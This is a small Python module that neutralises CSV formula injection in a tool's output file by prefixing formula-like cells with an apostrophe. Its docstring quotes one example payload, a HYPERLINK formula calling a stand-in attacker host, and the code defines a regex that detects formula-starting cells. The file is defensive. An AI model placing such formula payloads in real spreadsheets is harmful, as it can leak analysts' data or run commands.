"""Cells a spreadsheet would run as a formula are written as text.

``mips resolve`` copies record ids from its input into its output CSV, and that output is
opened in Excel or LibreOffice by analysts. A cell starting with ``=``, ``+``, ``-``, ``@``,
a tab or a carriage return is taken as a formula (``=HYPERLINK("http://evil.example",...)``
leaks data or runs commands: "CSV injection"). Such a cell is written with a leading
apostrophe, which spreadsheets show as plain text (OWASP's advice); every other cell is
written unchanged, so ordinary ids round-trip exactly.
"""
from __future__ import annotations

import pandas as pd

FORMULA_START = r"^[=+\-@\t\r]"


def neutralise(column: pd.Series) -> pd.Series:
    """The column with every formula-looking cell prefixed with ``'``."""
    text = column.astype(str)
    return text.where(~text.str.contains(FORMULA_START, regex=True), "'" + text)


def neutralise_frame(frame: pd.DataFrame, columns: list[str]) -> pd.DataFrame:
    out = frame.copy()
    for name in columns:
        out[name] = neutralise(out[name])
    return out
